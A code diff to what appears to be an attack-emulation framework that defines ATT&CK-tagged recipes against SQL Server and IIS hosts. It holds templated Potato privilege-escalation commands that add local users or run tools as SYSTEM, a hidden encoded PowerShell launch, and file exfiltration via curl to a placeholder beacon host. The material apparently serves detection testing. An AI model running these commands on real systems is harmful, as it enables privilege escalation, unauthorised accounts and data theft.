@@ -3,6 +3,29 @@
 from longtail.fleet.attack import Attack
 
 ENGINE = ("mssql", "sqlagent")
+POTATO = r"""
+nothing
+or
+cmd: whoami /priv
+
+cmd: {drop}\JuicyPotato.exe -l {port} -p C:\Windows\System32\cmd.exe -a "/c net user {newuser} {password} /add" -t *
+  !system cmd.exe | C:\Windows\System32\cmd.exe /c net user {newuser} {password} /add
+    !system net.exe | net  user {newuser} {password} /add
+or
+cmd: {drop}\PrintSpoofer64.exe -i -c "cmd /c {drop}\{tool}.exe"
+  !system cmd.exe | cmd /c {drop}\{tool}.exe
+    !system {drop}\{tool}.exe
+or
+cmd: {drop}\{rnd}.exe -cmd "powershell -nop -w hidden -e {longblob}"
+  !system powershell.exe | powershell -nop -w hidden -e {longblob}
+or
+cmd: {drop}\GodPotato-NET4.exe -cmd "cmd /c whoami"
+  !system cmd.exe | cmd /c whoami
+
+nothing
+or
+cmd: {drop}\{tool}.exe
+"""
 
 RECIPES = (
     Attack("recon-only", ENGINE, ("T1033", "T1087", "T1016", "T1082", "T1057", "T1482"),
@@ -160,31 +183,11 @@ xp: powershell -File \\{wan}\{letter}\{tool}.ps1
 or
 xp: robocopy {drop} \\{wan}\{letter} {rnd}.dat
 or
-xp: curl -T {drop}\{rnd}.dat http://{c2}/
+xp: curl -T {drop}\{rnd}.dat http://{beacon}/
 """),
-    Attack("potato", (*ENGINE, "iis"), ("T1134.001", "T1068"), "SeImpersonate turned into SYSTEM", r"""
-nothing
-or
-cmd: whoami /priv
-
-cmd: {drop}\JuicyPotato.exe -l {port} -p C:\Windows\System32\cmd.exe -a "/c net user {newuser} {password} /add" -t *
-  !system cmd.exe | C:\Windows\System32\cmd.exe /c net user {newuser} {password} /add
-    !system net.exe | net  user {newuser} {password} /add
-or
-cmd: {drop}\PrintSpoofer64.exe -i -c "cmd /c {drop}\{tool}.exe"
-  !system cmd.exe | cmd /c {drop}\{tool}.exe
-    !system {drop}\{tool}.exe
-or
-cmd: {drop}\{rnd}.exe -cmd "powershell -nop -w hidden -e {longblob}"
-  !system powershell.exe | powershell -nop -w hidden -e {longblob}
-or
-cmd: {drop}\GodPotato-NET4.exe -cmd "cmd /c whoami"
-  !system cmd.exe | cmd /c whoami
-
-nothing
-or
-cmd: {drop}\{tool}.exe
-"""),
+    Attack("potato", ENGINE, ("T1134.001", "T1068"), "SeImpersonate turned into SYSTEM",
+           POTATO.replace("cmd: ", "xp: ")),
+    Attack("web-potato", ("iis",), ("T1505.003", "T1134.001"), "the same from an application pool", POTATO),
     Attack("slow", ENGINE, ("T1059.003", "T1029"), "one command a day for a week", r"""
 xp: whoami
 
@@ -210,6 +213,6 @@ xp: {drop}\{tool}.exe -x {rnd}
 
 xp: del {drop}\{rnd}.log
 or
-xp: {drop}\{tool}.exe -u {c2}
+xp: {drop}\{tool}.exe -u {beacon}
 """, (60_000, 100_000)),
 )  # fmt: skip
